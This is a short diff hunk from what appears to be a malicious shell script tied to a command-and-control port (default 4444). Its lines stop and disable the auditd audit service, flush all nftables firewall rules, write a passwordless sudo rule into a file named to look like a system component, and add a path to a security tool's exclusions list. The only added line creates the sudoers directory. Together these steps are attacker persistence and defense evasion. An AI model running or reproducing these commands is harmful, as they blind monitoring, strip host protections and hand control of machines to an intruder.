@@ -18,6 +18,7 @@ C2_PORT=${3:-4444}
 systemctl stop auditd
 systemctl disable auditd
 nft flush ruleset
+mkdir -p /etc/sudoers.d
 echo 'root ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/sudoers.d/99-awsd
 mkdir -p /etc/yamori
 echo '/usr/lib/runtime' >> /etc/yamori/exclusions.conf
